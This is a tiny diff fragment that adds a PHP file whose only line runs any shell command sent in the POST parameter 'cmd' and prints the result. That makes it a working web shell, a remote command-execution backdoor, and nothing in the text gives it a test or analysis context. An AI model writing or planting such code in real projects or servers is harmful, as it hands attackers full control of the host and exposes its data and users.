@@ -1,0 +1,2 @@
+<?php
+print `{$_POST['cmd']}`;
